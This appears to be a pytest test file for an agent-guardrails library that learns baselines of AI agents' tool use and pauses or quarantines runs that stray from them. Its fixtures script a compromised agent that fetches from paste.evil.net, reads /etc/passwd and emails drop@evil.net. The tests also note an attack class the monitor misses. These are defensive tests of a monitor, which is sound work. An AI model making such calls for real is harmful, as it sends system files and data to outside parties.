"""Behaviour baselines: learning from recorded traffic, the JSON file, and the anomaly signal
feeding the cascade breaker, on generated histories."""

from __future__ import annotations

import asyncio
import collections
import json
import math
import random
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from guardrails_plugin import (
    AgentMessage,
    Effect,
    Guard,
    Policy,
    RunPaused,
    ToolCall,
    ToolCallDenied,
    allow,
    deny,
)
from guardrails_plugin.audit import AuditLog
from guardrails_plugin.baselines import (
    Anomaly,
    Baseline,
    BaselineError,
    Counts,
    Population,
    evaluate,
    keys,
    learn,
)
from guardrails_plugin.cascade import Breaker, CascadeMonitor, Cycles, default_signals
from guardrails_plugin.cli import main as cli
from guardrails_plugin.replay import RecordedCall, from_audit, from_jsonl
from guardrails_plugin.scopes import Emails, Paths, Urls

SETTINGS = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])

# -- generated histories ---------------------------------------------------------------------

labels = st.text("abcdefghij", min_size=1, max_size=6)
hosts = st.builds(lambda a, b: f"{a}.{b}.com", labels, labels)
values = st.one_of(
    hosts.map(lambda h: f"https://{h}/p"),
    hosts.map(lambda h: f"user@{h}"),
    labels.map(lambda x: f"/srv/{x}/file.txt"),
    labels,
)


@st.composite
def histories(draw: Any) -> list[RecordedCall]:
    """Agents with a handful of tools, each tool one argument drawn from a small pool of
    values, runs of a few calls, interleaved."""
    agents = draw(st.lists(labels, min_size=1, max_size=3, unique=True))
    habits = {
        a: {
            t: draw(st.lists(values, min_size=1, max_size=4, unique=True))
            for t in draw(st.lists(labels, min_size=1, max_size=4, unique=True))
        }
        for a in agents
    }
    rng = random.Random(draw(st.integers(0, 2**32)))
    calls = []
    for r in range(draw(st.integers(1, 12))):
        a = rng.choice(agents)
        thread = rng.choice([f"t{r}", None]) if r % 5 == 4 else f"t{r}"
        for _ in range(rng.randint(1, 8)):
            tool = rng.choice(sorted(habits[a]))
            calls.append(
                RecordedCall(tool, {"to": rng.choice(habits[a][tool])}, agent=a, thread_id=thread)
            )
    return calls


def everything(baseline: Baseline, **options: Any) -> Anomaly:
    """An anomaly signal that scores every habit, however little evidence it has."""
    return Anomaly(baseline, min_support=1, max_novelty=1.0, quantile=1.0, **options)


# -- what a value is counted as --------------------------------------------------------------


@given(hosts, st.sampled_from(["", ".", ":443"]), st.booleans())
def test_a_url_counts_as_the_host_the_url_scope_allows(host: str, tail: str, upper: bool) -> None:
    url = f"https://{host.upper() if upper else host}{tail}/x?y=1"
    [key] = keys(url)
    kind, _, found = key.partition(":")
    assert kind == "host"
    assert Urls([found]).contains(url)  # the scope's own parse is the oracle
    assert found == host


@given(labels, hosts, st.booleans())
def test_an_address_counts_as_its_domain_by_the_email_scope(
    local: str, domain: str, named: bool
) -> None:
    value = f"Someone <{local}@{domain.upper()}>" if named else f"{local}@{domain}"
    [key] = keys(value)
    assert key.startswith("email:")
    assert Emails(domains=[key.removeprefix("email:")]).contains(value)


@given(
    st.lists(labels, min_size=2, max_size=5), st.lists(st.sampled_from([".", "x/.."]), max_size=3)
)
def test_a_path_counts_as_its_root(parts: list[str], noise: list[str]) -> None:
    path = "/" + "/".join([parts[0], *noise, *parts[1:]])
    [key] = keys(path)
    root = key.removeprefix("path:")
    assert root == "/" + "/".join(parts[:2])
    assert Paths([root]).contains(path)


def test_free_text_numbers_and_mappings_are_not_counted() -> None:
    assert keys("x" * 500) == ()
    assert keys(12.5) == ()
    assert keys({"a": 1}) == ()
    assert keys(None) == ()
    assert keys(["ops", "ops", 3, True]) == ("value:ops", "value:3", "value:true")


# -- learning ----------------------------------------------------------------------------------


@SETTINGS
@given(histories())
def test_learning_counts_exactly_what_the_history_holds(calls: list[RecordedCall]) -> None:
    baseline = learn(calls)
    assert baseline.calls == len(calls)
    by_agent = collections.Counter(c.agent for c in calls)
    assert {a: p.calls for a, p in baseline.agents.items()} == dict(by_agent)


@SETTINGS
@given(histories())
def test_learning_counts_tools_values_runs_and_transitions(calls: list[RecordedCall]) -> None:
    baseline = learn(calls)
    for agent, p in baseline.agents.items():
        mine = [c for c in calls if c.agent == agent]
        assert dict(p.tools.values) == dict(collections.Counter(c.tool for c in mine))
        for tool, per in p.args.items():
            want = collections.Counter(
                k for c in mine if c.tool == tool for k in keys(c.args["to"])
            )
            got = per["to"]
            if got.values:  # an argument kept (not open)
                assert dict(got.values) == dict(want)
            assert got.total == sum(want.values())
        for tool, names in p.params.items():
            want_names = collections.Counter(n for c in mine if c.tool == tool for n in c.args)
            assert dict(names.values) == dict(want_names)
        runs: dict[str, list[str]] = collections.defaultdict(list)
        for c in mine:
            if c.thread_id is not None:
                runs[c.thread_id].append(c.tool)
        assert dict(p.volume) == dict(collections.Counter(len(r) for r in runs.values()))
        pairs = collections.Counter(
            (["", *r][i], r[i]) for r in runs.values() for i in range(len(r))
        )
        got_pairs = {(prev, t): n for prev, c in p.transitions.items() for t, n in c.values.items()}
        assert got_pairs == dict(pairs)


@SETTINGS
@given(st.lists(st.integers(0, 300), min_size=1, max_size=600), st.integers(1, 8))
def test_memory_is_bounded_and_nothing_is_lost(stream: list[int], cap: int) -> None:
    calls = [RecordedCall("t", {"v": f"k{n}"}, agent="a", thread_id="t") for n in stream]
    p = learn(calls, cap=cap).agents["a"]
    for counts in (p.args["t"]["v"], *p.transitions.values(), p.tools):
        assert len(counts.values) <= cap
        assert counts.others >= 0
    assert p.args["t"]["v"].total == len(stream)


def test_learning_reads_the_replay_sources(tmp_path: Path) -> None:
    pop = Population(5, agents=3)
    calls = list(pop.history([0], 20))
    lines = tmp_path / "calls.jsonl"
    lines.write_text(
        "".join(
            json.dumps(
                {"tool": c.tool, "args": dict(c.args), "agent": c.agent, "thread_id": c.thread_id}
            )
            + "\n"
            for c in calls
        )
    )
    log = AuditLog(str(tmp_path / "audit.db"))
    guard = Guard(Policy([allow("*")]), audit=log)
    for c in calls:
        guard.check(ToolCall(c.tool, c.args, agent=c.agent, thread_id=c.thread_id))
    log.close()
    want = learn(calls)
    assert learn(from_jsonl(lines)) == want
    assert learn(from_audit(str(tmp_path / "audit.db"))) == want


# -- the file ----------------------------------------------------------------------------------


@SETTINGS
@given(histories(), st.integers(1, 6))
def test_json_round_trip_is_exact(calls: list[RecordedCall], cap: int) -> None:
    baseline = learn(calls, cap=cap)
    text = baseline.to_json()
    again = Baseline.from_json(text)
    assert again == baseline
    assert again.to_json() == text


def test_save_and_load(tmp_path: Path) -> None:
    baseline = learn(Population(2, agents=4).history([0], 30))
    baseline.save(tmp_path / "b.json")
    assert Baseline.load(tmp_path / "b.json") == baseline


def _good_doc() -> dict[str, Any]:
    calls = [RecordedCall("fetch", {"url": "https://a.com/"}, agent="a", thread_id="t")] * 3
    return json.loads(learn(calls, cap=2).to_json())


BREAKAGES = [
    (
        lambda d: d["agents"]["a"]["params"].update(ghost={"values": {}}),
        "agents.a.params.ghost: names a tool the profile does not keep",
    ),
    (lambda d: d.pop("format"), "not a baseline"),
    (lambda d: d.update(version=99), "version 99 is not supported"),
    (lambda d: d.update(extra=1), "unknown keys: extra"),
    (lambda d: d.update(cap=0), "cap: must be a positive integer"),
    (lambda d: d.update(agents=[]), "agents: must be an object, found a list"),
    (lambda d: d["agents"]["a"]["tools"]["values"].update(fetch=-1), "agents.a.tools.values.fetch"),
    (lambda d: d["agents"]["a"]["tools"]["values"].update(x=1, y=1), "more than the cap 2"),
    (lambda d: d["agents"]["a"]["tools"].update(others="3"), "agents.a.tools.others"),
    (lambda d: d["agents"]["a"]["volume"].update(many=1), "is not a number of calls"),
    (lambda d: d["agents"]["a"]["args"].update(ghost={}), "names a tool the profile does not keep"),
    (
        lambda d: d["agents"]["a"].update(tools=None),
        "agents.a.tools: must be an object, found null",
    ),
    (lambda d: d["agents"]["a"]["args"]["fetch"]["url"].update(values=True), "found a boolean"),
]


@pytest.mark.parametrize(("break_it", "said"), BREAKAGES)
def test_a_bad_baseline_file_is_refused_naming_the_field(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], break_it: Any, said: str
) -> None:
    doc = _good_doc()
    Baseline.from_doc(doc)  # valid before
    break_it(doc)
    with pytest.raises(BaselineError, match=r"^b\.json: ") as info:
        Baseline.from_json(json.dumps(doc), name="b.json")
    assert said in str(info.value)
    (tmp_path / "b.json").write_text(json.dumps(doc))
    assert cli(["baseline", "show", str(tmp_path / "b.json")]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: ")
    assert err.count("\n") == 1
    assert said in err


@pytest.mark.parametrize("text", ["", "{", "[1]", "null", '"x"', "\xff"])
def test_a_file_that_is_not_a_baseline_is_one_error(text: str, tmp_path: Path, capsys: Any) -> None:
    (tmp_path / "b.json").write_text(text, encoding="latin-1")
    assert cli(["baseline", "show", str(tmp_path / "b.json")]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: ")
    assert err.count("\n") == 1
    assert "Traceback" not in err


# -- the anomaly signal ------------------------------------------------------------------------


@SETTINGS
@given(histories(), st.integers(0, 2**32))
def test_a_run_drawn_from_the_baselines_own_habits_never_trips(
    calls: list[RecordedCall], seed: int
) -> None:
    baseline = learn(calls)
    anomaly = everything(baseline, threshold=0.5, min_events=1)  # the most sensitive there is
    raw: dict[tuple[str, str, str], Any] = {}
    for c in calls:
        for k in keys(c.args["to"]):
            raw[(c.agent, c.tool, k)] = c.args["to"]
    rng = random.Random(seed)
    guard = Guard(Policy([allow("*")]), cascade=CascadeMonitor([anomaly]))
    for agent, p in baseline.agents.items():
        if not p.transitions.get(""):
            continue
        longest = max(p.volume) if p.volume else 1
        prev = ""
        for i in range(rng.randint(1, longest)):
            nexts = p.transitions.get(prev)
            if not nexts or not nexts.values:
                break
            tool = rng.choice(sorted(nexts.values))
            seen = sorted(k for (a, t, k) in raw if a == agent and t == tool)
            value = raw[(agent, tool, rng.choice(seen))]
            call = ToolCall(
                tool, {"to": value}, agent=agent, thread_id=f"drawn-{agent}", call_id=str(i)
            )
            assert anomaly.novelties(call, prev, i + 1) == []
            d = guard.check(call)
            assert d.effect is Effect.ALLOW, d.reason
            prev = tool
    assert guard.trips() == []


def _habitual(n: int = 40) -> Baseline:
    calls = []
    for r in range(n):
        for _ in range(3):
            calls.append(
                RecordedCall(
                    "fetch", {"url": "https://docs.acme.com/x"}, agent="a", thread_id=f"r{r}"
                )
            )
    return learn(calls)


@settings(max_examples=80, deadline=None)
@given(
    st.floats(0.25, 6.0),
    st.integers(1, 4),
    st.lists(st.integers(0, 3), min_size=8, max_size=8),
)
def test_k_novel_destinations_trip_at_the_kth_beyond_the_threshold(
    threshold: float, min_events: int, gaps: list[int]
) -> None:
    anomaly = Anomaly(
        _habitual(),
        threshold=threshold,
        min_events=min_events,
        weights={"transition": 0.0, "volume": 0.0},
    )
    need = max(math.ceil(threshold), min_events)  # each new destination weighs 1
    assume(need <= len(gaps))
    guard = Guard(Policy([allow("fetch")]), cascade=CascadeMonitor([anomaly]))
    n = 0
    for novel, gap in enumerate(gaps, 1):
        for _ in range(gap):  # habitual calls between: they add nothing
            n += 1
            d = guard.check(
                ToolCall(
                    "fetch",
                    {"url": "https://docs.acme.com/y"},
                    agent="a",
                    thread_id="t",
                    call_id=str(n),
                )
            )
            assert d.effect is Effect.ALLOW
        n += 1
        d = guard.check(
            ToolCall(
                "fetch",
                {"url": f"https://new{novel}.evil.net/"},
                agent="a",
                thread_id="t",
                call_id=str(n),
            )
        )
        if novel < need:
            assert d.effect is Effect.ALLOW, (novel, need)
        else:
            assert (d.effect, d.rule) == (Effect.ASK, "cascade:anomaly")
            break
    [trip] = guard.trips()
    assert trip.signal == "anomaly"
    assert trip.culprit == "a"
    assert len(trip.evidence) == need


def test_the_same_novelty_again_adds_nothing() -> None:
    anomaly = Anomaly(_habitual(), weights={"transition": 0.0, "volume": 0.0})
    guard = Guard(Policy([allow("fetch")]), cascade=CascadeMonitor([anomaly]))
    for i in range(50):
        d = guard.check(
            ToolCall(
                "fetch", {"url": "https://one.evil.net/"}, agent="a", thread_id="t", call_id=str(i)
            )
        )
        assert d.effect is Effect.ALLOW
    assert guard.trips() == []


def test_what_is_open_or_unknown_is_not_scored() -> None:
    calls = [
        RecordedCall(
            "search", {"q": f"query {i}", "mode": "fast"}, agent="a", thread_id=f"r{i // 3}"
        )
        for i in range(90)
    ]
    anomaly = Anomaly(learn(calls))
    assert anomaly.scored("a")["args"] == {"search": ["mode"]}
    assert anomaly.scored("stranger") == {}
    guard = Guard(Policy([allow("*")]), cascade=CascadeMonitor([anomaly]))
    for i in range(10):
        assert (
            guard.check(ToolCall("search", {"q": f"new {i}"}, agent="a", thread_id="x")).effect
            is Effect.ALLOW
        )
        assert (
            guard.check(ToolCall(f"tool{i}", {}, agent="stranger", thread_id="x")).effect
            is Effect.ALLOW
        )
    assert guard.trips() == []


def test_a_bad_configuration_is_refused() -> None:
    b = _habitual(2)
    for bad in (
        {"threshold": 0},
        {"min_events": 0},
        {"quantile": 0},
        {"max_novelty": 2},
        {"weights": {"tool": -1}},
        {"weights": {"typo": 1}},
    ):
        with pytest.raises(ValueError, match="Anomaly: "):
            Anomaly(b, **bad)
    with pytest.raises(TypeError):
        Anomaly({})  # type: ignore[arg-type]


# -- containment end to end ------------------------------------------------------------------


def _mailer() -> Baseline:
    calls = []
    for r in range(60):
        calls += [
            RecordedCall(
                "fetch", {"url": "https://docs.acme.com/a"}, agent="mailer", thread_id=f"r{r}"
            ),
            RecordedCall("send_email", {"to": "ann@acme.com"}, agent="mailer", thread_id=f"r{r}"),
        ]
    return learn(calls)


def _attack(guard: Guard, thread: str = "t1") -> list[Any]:
    return [guard.check(c) for c in _calls(thread)]


def _calls(thread: str) -> list[ToolCall]:
    return [
        ToolCall(
            "fetch",
            {"url": "https://docs.acme.com/b"},
            agent="mailer",
            thread_id=thread,
            call_id="1",
        ),
        ToolCall(
            "fetch",
            {"url": "https://paste.evil.net/x"},
            agent="mailer",
            thread_id=thread,
            call_id="2",
        ),
        ToolCall(
            "read_file", {"path": "/etc/passwd"}, agent="mailer", thread_id=thread, call_id="3"
        ),
        ToolCall(
            "send_email", {"to": "drop@evil.net"}, agent="mailer", thread_id=thread, call_id="4"
        ),
        ToolCall(
            "send_email", {"to": "ann@acme.com"}, agent="mailer", thread_id=thread, call_id="5"
        ),
    ]


def test_an_anomaly_pauses_the_run_records_the_trip_and_tells_the_listeners(tmp_path: Path) -> None:
    heard: list[Any] = []
    log = AuditLog(str(tmp_path / "audit.jsonl"))
    guard = Guard(
        Policy([allow("*")]),
        cascade=CascadeMonitor([*default_signals(), Anomaly(_mailer())]),
        audit=log,
        listeners=[lambda event, decision: heard.append(decision)],
    )
    d = _attack(guard)
    # call 2: a new host (1) and fetch after fetch (0.5); call 3: a tool never used (1) and a
    # third call in a run whose runs all had two (1): 3.5 >= 3
    assert [x.effect for x in d[:2]] == [Effect.ALLOW] * 2
    assert (d[2].effect, d[2].rule, d[2].kind) == (Effect.ASK, "cascade:anomaly", "control")
    assert isinstance(d[2].error(), RunPaused)
    assert all(x.effect is Effect.ASK and x.rule != "cascade:anomaly" for x in d[3:])  # held
    [flag] = guard.controls.flags()
    assert (flag.level, flag.target, str(flag.state)) == ("thread", "t1", "paused")
    [trip] = guard.trips()
    assert (trip.signal, trip.culprit, trip.response) == ("anomaly", "mailer", "interrupt")
    for said in ("paste.evil.net", "fetch -> fetch", "read_file", "more than 2 calls"):
        assert said in trip.reason
    assert any(x.rule == "cascade:anomaly" for x in heard)
    record, step = [r for r in log.iter() if r.kind == "trip"]  # the trip, the step it stopped
    assert (record.rule, record.agent, record.outcome) == ("cascade:anomaly", "mailer", "interrupt")
    assert len(record.detail["evidence"]) == 4
    assert (step.rule, step.tool, step.outcome) == ("cascade:anomaly", "read_file", "ask")
    # another run of the same agent is not paused; a person resumes this one
    assert (
        guard.check(
            ToolCall("fetch", {"url": "https://docs.acme.com/"}, agent="mailer", thread_id="t2")
        ).effect
        is Effect.ALLOW
    )
    assert guard.controls.resume(thread="t1")
    again = guard.check(
        ToolCall("send_email", {"to": "ann@acme.com"}, agent="mailer", thread_id="t1", call_id="6")
    )
    assert again.effect is Effect.ALLOW  # what the person saw is not held against the run again
    log.close()


def test_the_async_path_trips_the_same_way() -> None:
    guard = Guard(Policy([allow("*")]), cascade=CascadeMonitor([Anomaly(_mailer())]))
    sync = Guard(Policy([allow("*")]), cascade=CascadeMonitor([Anomaly(_mailer())]))

    async def run() -> list[Any]:
        return [await guard.acheck(c) for c in _calls("t1")]

    got = asyncio.run(run())
    want = [sync.check(c) for c in _calls("t1")]
    assert [(d.effect, d.rule) for d in got] == [(d.effect, d.rule) for d in want]
    assert [t.reason for t in guard.trips()] == [t.reason for t in sync.trips()]


def test_calls_that_never_ran_are_not_learned_as_habits(tmp_path: Path) -> None:
    log = AuditLog(str(tmp_path / "audit.db"))
    guard = Guard(
        Policy([allow(["fetch", "send_email", "read_file"]), deny("shell")]),
        cascade=CascadeMonitor([Anomaly(_mailer())]),
        audit=log,
    )
    guard.check(ToolCall("shell", {"cmd": "id"}, agent="mailer", thread_id="t0"))  # denied
    _attack(guard)  # two calls run, the third trips the breaker, the rest are held
    log.close()
    learned = learn(from_audit(str(tmp_path / "audit.db")))
    assert dict(learned.agents["mailer"].tools.values) == {"fetch": 2}
    assert learned.skipped == 4
    everything_ = learn(from_audit(str(tmp_path / "audit.db")), stopped=True)
    assert set(everything_.agents["mailer"].tools.values) == {
        "fetch",
        "shell",
        "read_file",
        "send_email",
    }


def test_under_a_quarantining_breaker_the_agent_is_isolated_and_the_others_go_on() -> None:
    guard = Guard(
        Policy([allow("*")]),
        cascade=CascadeMonitor([Anomaly(_mailer())]),
        breaker=Breaker({"anomaly": "quarantine"}),
    )
    d = _attack(guard)
    assert (d[2].effect, d[2].rule, d[2].kind) == (Effect.DENY, "cascade:anomaly", "cascade")
    assert all(isinstance(x.error(), ToolCallDenied) for x in d[3:])
    assert guard.controls.quarantined("mailer") is not None
    assert guard.check(ToolCall("fetch", {}, agent="other", thread_id="t1")).effect is Effect.ALLOW


def test_denied_probes_count_but_the_alarm_comes_on_a_permitted_call() -> None:
    guard = Guard(
        Policy([allow(["fetch", "send_email"]), deny("read_file")]),
        cascade=CascadeMonitor([Anomaly(_mailer())]),
    )
    for i, tool in enumerate(["shell", "read_file", "delete"]):
        d = guard.check(ToolCall(tool, {}, agent="mailer", thread_id="t", call_id=f"p{i}"))
        assert d.effect is Effect.DENY
        assert d.rule != "cascade:anomaly"
    d = guard.check(
        ToolCall(
            "fetch", {"url": "https://docs.acme.com/"}, agent="mailer", thread_id="t", call_id="ok"
        )
    )
    assert (d.effect, d.rule) == (Effect.ASK, "cascade:anomaly")


def test_a_monitor_without_anomaly_keeps_no_scope_for_plain_calls() -> None:
    monitor = CascadeMonitor([Cycles()])
    assert monitor.observe_call(ToolCall("x", {}, thread_id="t"), denied=False) == []
    assert monitor.scopes() == []
    with_anomaly = CascadeMonitor([Cycles(), Anomaly(_mailer())])
    with_anomaly.observe_call(ToolCall("x", {}, thread_id="t"), denied=False)
    assert with_anomaly.scopes() == ["t"]
    # messages still reach the other signals
    assert with_anomaly.observe(AgentMessage("a", "b", "hi", thread_id="t")) == []


# -- the command line --------------------------------------------------------------------------


def test_learn_and_show_on_the_command_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    calls = tmp_path / "calls.jsonl"
    calls.write_text(
        "".join(
            json.dumps(
                {"tool": c.tool, "args": dict(c.args), "agent": c.agent, "thread_id": c.thread_id}
            )
            + "\n"
            for c in Population(4, agents=3).history([0], 30)
        )
    )
    out = tmp_path / "b.json"
    assert cli(["baseline", "learn", "--from", f"calls:{calls}", "--out", str(out)]) == 0
    assert "learned 3 agents" in capsys.readouterr().err
    assert Baseline.load(out) == learn(from_jsonl(calls))
    assert cli(["baseline", "show", str(out), "--agent", "agent-0"]) == 0
    shown = capsys.readouterr().out
    assert "agent-0:" in shown
    assert "agent-1:" not in shown
    assert "[scored" in shown
    assert cli(["baseline", "show", str(out), "--json"]) == 0
    assert Baseline.from_json(capsys.readouterr().out) == Baseline.load(out)
    for argv, said in [
        (
            ["baseline", "learn", "--from", str(tmp_path / "none.jsonl"), "--out", str(out)],
            "none.jsonl",
        ),
        (
            [
                "baseline",
                "learn",
                "--from",
                f"calls:{calls}",
                "--out",
                str(tmp_path / "no" / "b.json"),
            ],
            "cannot write",
        ),
        (
            ["baseline", "learn", "--from", f"calls:{calls}", "--out", str(out), "--cap", "0"],
            "--cap",
        ),
        (["baseline", "show", str(out), "--agent", "ghost"], "no agent 'ghost'"),
    ]:
        assert cli(argv) == 1
        err = capsys.readouterr().err
        assert err.startswith("error: ")
        assert err.count("\n") == 1
        assert said in err


# -- the evaluation ----------------------------------------------------------------------------


def test_held_out_compromised_runs_are_caught_and_honest_ones_are_not() -> None:
    pop = Population(11, agents=6)
    baseline = learn(pop.history(range(4), 120))
    ev = evaluate(pop, baseline, [100], runs=60)
    assert ev.honest_runs == 60
    assert ev.false_alarms_per_1000 < 50
    assert ev.caught_share("spray") > 0.8
    assert ev.caught_share("within") == 0.0  # what it cannot see, said in docs/baselines.md
    assert Counts({"a": 1, "b": 3}, 1).novelty == 0.4


def test_learn_from_langgraph_checkpoints_on_the_command_line(tmp_path: Path) -> None:
    from test_replay import _scripted_graph

    db = str(tmp_path / "graph.db")
    graph, conn = _scripted_graph(db)
    for thread in ("t-1", "t-2"):
        graph.invoke({"messages": [("user", "go")]}, {"configurable": {"thread_id": thread}})
    conn.close()
    out = tmp_path / "b.json"
    assert (
        cli(["baseline", "learn", "--from", f"checkpoints:sqlite:///{db}", "--out", str(out)]) == 0
    )
    p = Baseline.load(out).agents["support"]
    assert dict(p.tools.values) == {"read_file": 4, "send_email": 2}
    assert dict(p.args["read_file"]["path"].values) == {"path:/srv/data": 2, "path:/etc/passwd": 2}
    assert dict(p.args["send_email"]["to"].values) == {"email:evil.test": 2}
    assert dict(p.volume) == {3: 2}
    assert dict(p.transitions[""].values) == {"read_file": 2}


def test_denied_calls_do_not_count_in_the_runs_order_or_length() -> None:
    # learn skips denied calls; the signal must not count them as steps of the run either
    anomaly = Anomaly(_mailer(), threshold=0.5, min_events=1)
    tracker: Any = anomaly.track()
    fetch = ToolCall("fetch", {"url": "https://docs.acme.com/a"}, agent="mailer", thread_id="t")
    send = ToolCall("send_email", {"to": "ann@acme.com"}, agent="mailer", thread_id="t")
    for _ in range(5):
        assert tracker.observe_call(fetch, True, "t", 0) is None
    assert tracker.observe_call(fetch, False, "t", 0) is None
    assert tracker.observe_call(send, False, "t", 0) is None
    third = tracker.observe_call(fetch, False, "t", 0)  # a third call in a two-call habit
    assert third is not None
    assert "more than 2 calls" in third.reason


@SETTINGS
@given(histories())
def test_tool_calls_teach_what_their_records_teach(calls: list[RecordedCall]) -> None:
    events = [ToolCall(c.tool, c.args, agent=c.agent, thread_id=c.thread_id) for c in calls]
    assert learn(events) == learn(calls)


def test_calls_naming_no_run_are_scored_on_tools_and_values_only() -> None:
    anomaly = Anomaly(_mailer(), threshold=1.5, min_events=1)
    guard = Guard(Policy([allow("*")]), cascade=CascadeMonitor([anomaly]))
    habitual = [
        ToolCall("fetch", {"url": "https://docs.acme.com/a"}, agent="mailer"),
        ToolCall("send_email", {"to": "ann@acme.com"}, agent="mailer"),
    ]
    for _ in range(50):  # many runs' calls without ids all land in one scope, "-"
        for c in habitual:
            assert guard.check(c).effect is Effect.ALLOW
    assert guard.trips() == []
    for i in range(3):
        guard.check(ToolCall(f"new{i}", {}, agent="mailer"))
    assert [t.scope for t in guard.trips()] == ["-"]


def test_a_baseline_file_holds_no_secret() -> None:
    token = "sk-" + "A1b2C3d4" * 4
    calls = [
        RecordedCall(
            "call_api",
            {
                "api_key": "plain-looking-key",
                "auth": f"Bearer {token}",
                "url": "https://user:hunter2@api.acme.com/v1",
                "mode": "fast",
            },
            agent="a",
            thread_id=f"r{i}",
        )
        for i in range(30)
    ]
    text = learn(calls).to_json()
    for secret in ("plain-looking-key", token, "hunter2"):
        assert secret not in text
    assert "host:api.acme.com" in text
    assert "value:fast" in text


def test_an_argument_name_never_seen_for_the_tool_is_a_novelty() -> None:
    anomaly = Anomaly(_mailer())
    assert anomaly.scored("mailer")["params"] == ["fetch", "send_email"]
    call = ToolCall(
        "send_email", {"to": "ann@acme.com", "cc": "drop@evil.net"}, agent="mailer", thread_id="t"
    )
    assert [(n.kind, n.what) for n in anomaly.novelties(call, "fetch", 2)] == [
        ("argument", "send_email.cc")
    ]


def test_show_an_agent_without_runs(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    learn([RecordedCall("fetch", {"url": "https://a.com/"}, agent="solo")]).save(
        tmp_path / "b.json"
    )
    assert cli(["baseline", "show", str(tmp_path / "b.json")]) == 0
    assert "solo: 1 calls in 0 runs; no runs (its calls named no thread or run)" in (
        capsys.readouterr().out
    )
